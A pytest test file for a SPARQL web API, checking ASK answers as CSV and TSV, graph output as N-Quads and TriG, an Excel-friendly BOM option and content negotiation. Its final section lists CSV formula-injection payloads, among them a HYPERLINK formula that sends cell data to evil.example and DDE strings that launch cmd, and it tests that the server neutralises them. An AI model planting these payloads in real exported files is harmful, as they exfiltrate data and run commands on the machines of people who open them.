"""Answer formats added by issue 12: ASK as CSV and TSV, graphs as N-Quads and TriG, CSV with a BOM."""

from __future__ import annotations

import csv
import io

import pyoxigraph as ox
import pytest

ID = "https://w3id.org/otkg/id/"
OTKG = "https://w3id.org/otkg/ontology#"
LABEL = ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label")
BOM = b"\xef\xbb\xbf"
ASK_YES = f"ASK {{ <{ID}cluster-14> a <{OTKG}CareCluster> }}"
ASK_NO = f"ASK {{ <{ID}cluster-99> a <{OTKG}CareCluster> }}"
CONSTRUCT = (
    f"CONSTRUCT {{ ?c <{LABEL.value}> ?l }} WHERE {{ ?c <{OTKG}clusterCode> 14 ; <{LABEL.value}> ?l }}"
)
POUNDS = 'SELECT ?x WHERE { VALUES ?x { "£5 café" "naïve Zoë, Ångström" } }'


def ctype(r) -> str:
    return r.headers["content-type"].split(";")[0]


# --- ASK as a one-column table -------------------------------------------------------------------


@pytest.mark.parametrize("query,word", [(ASK_YES, "true"), (ASK_NO, "false")])
def test_ask_as_csv_and_tsv_is_one_column_named_askresult(client, query, word):
    r = client.get("/sparql", params={"query": query}, headers={"accept": "text/csv"})
    assert r.status_code == 200 and ctype(r) == "text/csv"
    assert list(csv.reader(io.StringIO(r.text))) == [["_askResult"], [word]]
    r = client.get("/sparql", params={"query": query, "format": "tsv"})
    assert ctype(r) == "text/tab-separated-values" and r.text == f"?_askResult\n{word}\n"
    # the same table a SELECT of that one value gives, so readers need no special case
    same = client.get(
        "/sparql",
        params={"query": f"SELECT ?_askResult WHERE {{ BIND({word} AS ?_askResult) }}", "format": "tsv"},
    )
    assert same.text == r.text


def test_ask_by_post_and_through_the_worker_pool(client):
    r = client.post(
        "/sparql",
        content=ASK_YES,
        headers={
            "content-type": "application/sparql-query",
            "accept": "text/csv;q=1, application/json;q=0.5",
        },
    )
    assert r.status_code == 200 and r.content == b"_askResult\r\ntrue\r\n"


def test_ask_still_refuses_a_graph_format(client):
    r = client.get("/sparql", params={"query": ASK_YES}, headers={"accept": "text/turtle"})
    assert r.status_code == 406 and r.headers["content-type"] == "application/problem+json"


# --- graphs as N-Quads and TriG ------------------------------------------------------------------


@pytest.mark.parametrize(
    "accept,fmt,rdf",
    [
        ("application/n-quads", "nquads", ox.RdfFormat.N_QUADS),
        ("application/trig", "trig", ox.RdfFormat.TRIG),
    ],
)
def test_construct_as_quads(client, accept, fmt, rdf):
    by_accept = client.get("/sparql", params={"query": CONSTRUCT}, headers={"accept": accept})
    by_format = client.get("/sparql", params={"query": CONSTRUCT, "format": fmt})
    assert by_accept.status_code == 200 and ctype(by_accept) == ctype(by_format) == accept
    quads = list(ox.parse(by_accept.content, format=rdf))
    assert by_format.content == by_accept.content
    assert [(q.subject, q.predicate, q.object, q.graph_name) for q in quads] == [
        (
            ox.NamedNode(ID + "cluster-14"),
            LABEL,
            ox.Literal("Psychotic Crisis", language="en"),
            ox.DefaultGraph(),
        )
    ]


def test_named_construct_query_and_entity_as_quads(client):
    r = client.get(
        "/queries/describe-entity",
        params={"entity": ID + "cluster-14"},
        headers={"accept": "application/n-quads"},
    )
    assert r.status_code == 200 and ctype(r) == "application/n-quads"
    turtle = client.get(
        "/queries/describe-entity", params={"entity": ID + "cluster-14"}, headers={"accept": "text/turtle"}
    )
    quads = list(ox.parse(r.content, format=ox.RdfFormat.N_QUADS))
    assert quads and {q.graph_name for q in quads} == {ox.DefaultGraph()}
    assert set(quads) == set(ox.parse(turtle.content, format=ox.RdfFormat.TURTLE))
    r = client.get("/id/cluster-14", headers={"accept": "application/trig"})
    assert r.status_code == 200 and ctype(r) == "application/trig"
    assert any(
        q.object == ox.Literal("Psychotic Crisis", language="en")
        for q in ox.parse(r.content, format=ox.RdfFormat.TRIG)
    )


def test_the_description_offers_the_new_formats(client):
    spec = client.get("/openapi.json").json()
    assert {"application/n-quads", "application/trig"} <= set(
        spec["paths"]["/sparql"]["get"]["responses"]["200"]["content"]
    )
    assert "bom" in {p["name"] for p in spec["paths"]["/sparql"]["get"]["parameters"]}
    assert "bom" in {p["name"] for p in spec["paths"]["/queries/care-clusters"]["get"]["parameters"]}


# --- CSV that Excel opens as UTF-8 ---------------------------------------------------------------


def test_bom_true_marks_a_csv_answer_as_utf8_and_keeps_every_character(client):
    plain = client.get("/sparql", params={"query": POUNDS, "format": "csv"})
    marked = client.get("/sparql", params={"query": POUNDS, "format": "csv", "bom": "true"})
    assert plain.headers["content-type"] == marked.headers["content-type"] == "text/csv; charset=utf-8"
    assert not plain.content.startswith(BOM)
    assert marked.content == BOM + plain.content
    assert marked.content.decode("utf-8-sig").split("\r\n") == ["x", "£5 café", '"naïve Zoë, Ångström"', ""]
    assert list(csv.reader(io.StringIO(marked.content.decode("utf-8-sig")))) == [
        ["x"],
        ["£5 café"],
        ["naïve Zoë, Ångström"],
    ]
    assert marked.headers["etag"] != plain.headers["etag"]  # two different bodies


def test_bom_by_post_on_named_queries_and_with_ask(client):
    r = client.post("/sparql", data={"query": POUNDS, "bom": "true"}, headers={"accept": "text/csv"})
    assert r.content.startswith(BOM) and "£5 café" in r.content.decode("utf-8-sig")
    r = client.get("/queries/care-clusters", params={"format": "csv", "bom": "true", "limit": 1})
    assert r.status_code == 200 and r.content.startswith(BOM + b"cluster,")
    r = client.get("/sparql", params={"query": ASK_YES, "format": "csv", "bom": "true"})
    assert r.content == BOM + b"_askResult\r\ntrue\r\n"


def test_bom_leaves_other_formats_alone(client):
    for fmt in ("json", "tsv", "xml"):
        r = client.get("/sparql", params={"query": POUNDS, "format": fmt, "bom": "true"})
        assert r.status_code == 200 and not r.content.startswith(BOM)


@pytest.mark.parametrize(
    "path,params",
    [
        ("/sparql", {"query": POUNDS, "bom": "yes"}),
        ("/queries/care-clusters", {"bom": "1"}),
    ],
)
def test_a_bad_bom_value_is_422(client, path, params):
    r = client.get(path, params=params)
    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json"
    assert r.json()["parameter"] == "bom"


def test_bom_given_twice_is_400(client):
    r = client.get("/queries/care-clusters?bom=true&bom=false")
    assert r.status_code == 400 and r.headers["content-type"] == "application/problem+json"


def test_negotiation_gives_the_same_choice_or_refusal_every_time():
    """Choices are remembered per Accept and override; refusals are raised anew each time."""
    from otkg.api.errors import Problem
    from otkg.api.negotiation import GRAPH_FORMATS, RESULT_FORMATS, choose, choose_or_none

    for _ in range(2):
        assert choose("text/csv;q=0.5, application/sparql-results+json", RESULT_FORMATS).name == "json"
        assert (
            choose("text/csv;q=0.5, application/sparql-results+json", GRAPH_FORMATS + RESULT_FORMATS).name
            == "json"
        )
        assert choose(None, RESULT_FORMATS, " TSV ").name == "tsv"
        assert choose_or_none("image/png", RESULT_FORMATS) is None
        with pytest.raises(Problem) as refused:
            choose("image/png", RESULT_FORMATS)
        assert (
            refused.value.status == 406 and "offers application/sparql-results+json" in refused.value.detail
        )
        with pytest.raises(Problem) as refused:
            choose(None, RESULT_FORMATS, "nope")
        assert refused.value.detail == "format 'nope' is not one of: json, xml, csv, tsv"


# --- CSV for spreadsheets: no cell runs as a formula (OWASP, CSV injection) ------------------------

RISKY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\r=1+1",
]
SAFE = ["-5", "+3.25", "-1.5e3", "plain, text", "a = b", "'quoted already"]


def _values_query(texts: list[str]) -> str:
    # pyoxigraph's own writer escapes each text as a SPARQL string literal
    return "SELECT ?x WHERE { VALUES ?x { " + " ".join(str(ox.Literal(t)) for t in texts) + " } }"


def test_csv_for_spreadsheets_quotes_and_prefixes_cells_that_would_run(client):
    r = client.get("/sparql", params={"query": _values_query(RISKY + SAFE), "format": "csv", "bom": "true"})
    assert r.status_code == 200 and r.content.startswith(BOM)
    body = r.content.decode("utf-8-sig")
    assert body.split("\r\n")[1:4] == [
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
        "\"'+cmd|' /C calc'!A0\"",
        '"\'-2+3"',
    ]
    cells = [row[0] for row in csv.reader(io.StringIO(body, newline=""))][1:]
    assert cells == ["'" + t for t in RISKY] + SAFE  # numbers and harmless text unchanged


def test_plain_sparql_csv_stays_exact(client):
    r = client.get("/sparql", params={"query": _values_query(RISKY + SAFE), "format": "csv"})
    assert r.status_code == 200 and not r.content.startswith(BOM)
    cells = [row[0] for row in csv.reader(io.StringIO(r.content.decode("utf-8"), newline=""))][1:]
    assert cells == RISKY + SAFE


def test_csv_for_spreadsheets_of_safe_answers_is_the_plain_csv_marked(client):
    for path, params in (
        ("/queries/care-clusters", {"format": "csv", "limit": 5}),
        ("/sparql", {"query": POUNDS, "format": "csv"}),
    ):
        plain = client.get(path, params=params)
        marked = client.get(path, params={**params, "bom": "true"})
        assert marked.status_code == 200 and marked.content == BOM + plain.content
